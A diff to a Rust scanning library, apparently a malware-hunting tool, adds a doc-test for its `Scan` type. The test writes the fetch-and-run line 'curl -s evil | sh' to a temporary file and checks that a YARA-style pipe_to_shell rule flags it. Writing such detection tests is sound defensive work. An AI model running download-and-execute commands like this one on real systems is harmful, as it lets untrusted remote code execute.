@@ -169,6 +169,30 @@ pub enum StartError {
 }
 
 /// A scan that was started.
+///
+/// ```
+/// use std::sync::Arc;
+/// use huntbook::internals::scan::{Event, RuleSource, Ruleset, Scan, ScanOptions, Tree};
+///
+/// let folder = tempfile::tempdir()?;
+/// std::fs::write(folder.path().join("script"), "curl -s evil | sh")?;
+/// let text = r#"rule pipe_to_shell { strings: $a = "| sh" condition: $a }"#.to_owned();
+/// let rule = RuleSource { namespace: "own".into(), origin: "own.yar".into(), text };
+/// let rules = Arc::new(Ruleset::compile(&[rule], &[])?);
+///
+/// let scan = Scan::start(Tree::open(folder.path())?, rules, ScanOptions::default())?;
+/// let mut found = Vec::new();
+/// for event in &scan.events {
+///     match event {
+///         Event::Finding(finding) => found.push((finding.found_by.name().into_owned(), finding.matches[0].offset)),
+///         Event::Unscanned(missed) => panic!("nothing is missed silently: {missed:?}"),
+///         Event::Finished { .. } => break,
+///     }
+/// }
+/// scan.join();
+/// assert_eq!(found, [("pipe_to_shell".to_owned(), 13)]);
+/// # Ok::<(), Box<dyn std::error::Error>>(())
+/// ```
 #[derive(Debug)]
 pub struct Scan {
     /// What it reports. A dropped receiver ends the scan.
